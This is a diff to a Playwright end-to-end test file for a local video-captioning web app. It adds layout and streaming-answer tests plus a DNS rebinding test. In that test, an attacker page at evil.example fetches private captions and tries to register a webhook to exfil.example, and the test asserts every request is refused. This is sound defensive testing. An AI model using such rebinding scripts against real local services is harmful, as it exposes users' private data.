@@ -1,8 +1,10 @@
 """The web page end to end in headless Chromium (Debian's /usr/bin/chromium through Playwright): it asks for the
 token, loads the timeline, answers a question with links to the captions used, adds a watch whose match shows up
-live, and shows a caption that is ingested while the page is open.
+live, and shows a caption that is ingested while the page is open. A page from another site whose name resolves to
+127.0.0.1 (DNS rebinding) reads nothing and changes nothing.
 
-Set RLIVS_DOCS_SCREENSHOT=docs/edge_app.png to also save the screenshot used in docs/edge_app.md.
+A second test shows four cameras in one 1280x800 window. Set RLIVS_DOCS_SCREENSHOT=docs/edge_app.png to save its
+screenshot, the one in docs/edge_app.md.
 """
 
 import os
@@ -22,7 +24,11 @@ from tests.helpers.serve_helpers import tiny_engine, wait_for
 
 CHROMIUM = os.environ.get("RLIVS_CHROMIUM") or shutil.which("chromium") or "/usr/bin/chromium"
 ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
-        "--disable-component-update", "--disable-sync", "--no-first-run"]
+        "--disable-component-update", "--disable-sync", "--no-first-run",
+        "--host-resolver-rules=MAP evil.example 127.0.0.1",  # a rebinding attacker's name, already flipped
+        # the server must not rely on the browser's Private Network Access checks (older and other browsers have none)
+        "--disable-features=BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights,"
+        "PrivateNetworkAccessRespectPreflightResults,LocalNetworkAccessChecks"]
 TOKEN = "browser-test-token-0123456789"
 
 
@@ -88,11 +94,6 @@ def test_page_loads_answers_and_updates_live(browser, tmp_path, tiny_dir):
             ".some(e => Number(e.dataset.clip) > n)", arg=seen, timeout=20_000)
         assert page.locator("#conn").inner_text() == "live"
         page.wait_for_selector("#health-rows tr >> text=cam", timeout=10_000)
-        shot = os.environ.get("RLIVS_DOCS_SCREENSHOT")
-        if shot:
-            time.sleep(2.5)  # let the highlight animation settle and the health row refresh
-            page.evaluate("() => document.querySelectorAll('.caption-card.hl').forEach(e => e.classList.remove('hl'))")
-            page.screenshot(path=shot, type="png", full_page=False)
         assert not errors, errors
     finally:
         page.close()
@@ -138,7 +139,8 @@ def test_four_cameras_fit_one_window_and_a_clip_opens_enlarged(browser, tmp_path
     """Four streams in a 1280x800 window: no horizontal scroll, every camera card on screen with its latest frame and
     several captions; a finished file is shown as finished (not live, nothing "behind"), in /v1/streams too; the
     watches say "loading" (never "no watches") until they arrive; a click on a frame opens the clip enlarged; a
-    question shows its progress while it waits, and the answer stays compact with the watches still on screen."""
+    question shows its progress while it waits, its answer appears piece by piece as it is generated, and stays
+    compact with the watches still on screen."""
     import numpy as np
 
     video = make_sample_video(tmp_path / "cam.mp4", seconds=8.0)
@@ -184,6 +186,9 @@ def test_four_cameras_fit_one_window_and_a_clip_opens_enlarged(browser, tmp_path
                 b = card.bounding_box()
                 assert b is not None and b["y"] + b["height"] <= 800, (name, text, b)
 
+        page.wait_for_function("() => document.getElementById('sub').textContent === 'backend torch · model tiny'",
+                               timeout=10_000)
+
         # a finished file: "finished", no "behind", and the header counts it as finished
         page.wait_for_function("() => document.querySelector('.stream[data-stream=\"cam\"] .state')"
                                ".textContent === 'finished'", timeout=10_000)
@@ -203,8 +208,19 @@ def test_four_cameras_fit_one_window_and_a_clip_opens_enlarged(browser, tmp_path
         page.keyboard.press("Escape")
         page.wait_for_selector("#overlay", state="hidden", timeout=5_000)
 
-        # a question: progress while it waits, then a compact answer; the watches stay on screen
-        page.route("**/v1/ask", lambda route: held.setdefault("ask", route))
+        # a question: progress while it waits, the answer as it is generated (each decoder step slowed to 0.15 s
+        # so that the pieces arrive visibly apart), then a compact answer; the watches stay on screen
+        real_step = service.question_backend.step
+
+        def slow_step(*a, **kw):
+            time.sleep(0.15)
+            return real_step(*a, **kw)
+
+        service.question_backend.step = slow_step
+        page.evaluate("""() => { window.lens = []; const t = document.getElementById('answer-text');
+            new MutationObserver(() => window.lens.push(t.textContent.length))
+              .observe(t, {childList: true, characterData: true, subtree: true}); }""")
+        page.route("**/v1/ask/stream", lambda route: held.setdefault("ask", route))
         page.fill("#ask-input", "What was left at the door?")
         page.click("#ask-button")
         _until_held(page, held, "ask")
@@ -214,8 +230,11 @@ def test_four_cameras_fit_one_window_and_a_clip_opens_enlarged(browser, tmp_path
         page.wait_for_function("t => document.getElementById('ask-progress').textContent !== t", arg=first,
                                timeout=5_000)  # the seconds count up
         held.pop("ask").continue_()
-        page.wait_for_selector("#answer-text", state="visible", timeout=30_000)
+        page.wait_for_selector("#answer-used summary", state="visible", timeout=30_000)
         assert page.locator("#ask-progress").is_hidden()
+        final = len(page.locator("#answer-text").text_content())
+        partial = {n for n in page.evaluate("() => window.lens") if 0 < n < final}
+        assert final and len(partial) >= 2, (final, page.evaluate("() => window.lens"))  # it grew piece by piece
         assert page.evaluate("() => document.getElementById('answer-used').open") is False  # collapsed
         assert page.locator("#answer-sources li").count() >= 1
         watches = page.locator("#watches").bounding_box()
@@ -231,8 +250,77 @@ def test_four_cameras_fit_one_window_and_a_clip_opens_enlarged(browser, tmp_path
 
         shot = os.environ.get("RLIVS_DOCS_SCREENSHOT")
         if shot:
+            page.click("#answer-used summary")  # the captions the answer used, opened
+            page.wait_for_timeout(1600)  # the caption highlight animation settles
             page.screenshot(path=shot, type="png", full_page=False)
         assert not errors, errors
+    finally:
+        page.close()
+        server.stop()
+        service.stop()
+
+
+def test_dns_rebinding_page_reads_nothing_and_creates_no_watch(browser, tmp_path, tiny_dir):
+    """The attacker's page is first served by the attacker (here: Playwright answers the navigation), then its name
+    resolves to 127.0.0.1 (Chromium's resolver rule): its same-origin requests reach rlivs with Host evil.example."""
+    engine = tiny_engine()
+    with Memory(tmp_path / "memory.db", model_fingerprint=engine.model_fingerprint) as mem:
+        mem.open_stream("cam", "secret/path/cam.mp4", engine.backend.info.model_id, "planted")
+        ids = engine.text.encode("a private caption")
+        mem.commit_clip(ClipRecord("cam", 0, 0.0, 2.0, "a private caption", len(ids), engine.vector(ids)), None)
+    service = EdgeService(engine, tmp_path / "memory.db")
+    server = Server(service, port=0).start()  # the default: loopback, no token
+    page = browser.new_page()
+    try:
+        origin = f"http://evil.example:{server.port}"
+        page.route(origin + "/", lambda route: route.fulfill(status=200, content_type="text/html",
+                                                               body="<html><body>innocent</body></html>"))
+        page.goto(origin + "/")
+        got = page.evaluate("""async () => {
+            const out = {};
+            for (const p of ['/v1/captions', '/v1/streams', '/v1/thumbnails/cam/0.jpg', '/healthz']) {
+                const r = await fetch(p); out[p] = [r.status, await r.text()];
+            }
+            const w = await fetch('/v1/watches', {method: 'POST', headers: {'Content-Type': 'application/json'},
+                                  body: JSON.stringify({query: 'x', webhook: 'https://exfil.example/h'})});
+            out.watch = [w.status, await w.text()];
+            return out;
+        }""")
+        for path, (status, body) in got.items():
+            assert status == 421, (path, status)
+            assert "private caption" not in body and "secret/path" not in body
+        assert service.watches() == []
+        # the same browser at the real address is served
+        assert page.goto(server.url + "/healthz").status == 200
+    finally:
+        page.close()
+        server.stop()
+        service.stop()
+
+
+def test_eight_cameras_fit_one_window(browser, tmp_path, tiny_dir):
+    """Eight stored streams: 4x2 cards, all inside a 1280x800 window, no horizontal scroll, each with its frame."""
+    import numpy as np
+
+    engine = tiny_engine()
+    service = EdgeService(engine, tmp_path / "memory.db")
+    rng = np.random.default_rng(1)
+    names = [f"cam{i}" for i in range(8)]
+    for name in names:
+        _plant(service, engine, name, FOUR["dock"], rng)
+    server = Server(service, port=0).start()
+    page = browser.new_page(viewport={"width": 1280, "height": 800})
+    try:
+        page.goto(server.url + "/")
+        page.wait_for_selector('.stream[data-stream="cam7"] .caption-card', timeout=10_000)
+        assert page.evaluate("() => document.documentElement.scrollWidth") <= 1280
+        for name in names:
+            b = page.locator(f'.stream[data-stream="{name}"]').bounding_box()
+            assert b["x"] >= 0 and b["x"] + b["width"] <= 1280 and b["y"] + b["height"] <= 800, (name, b)
+            assert page.locator(f'.stream[data-stream="{name}"] .latest img').is_visible()
+            assert page.locator(f'.stream[data-stream="{name}"] .caption-card').first.is_visible()
+        if os.environ.get("RLIVS_EIGHT_SCREENSHOT"):
+            page.screenshot(path=os.environ["RLIVS_EIGHT_SCREENSHOT"])
     finally:
         page.close()
         server.stop()
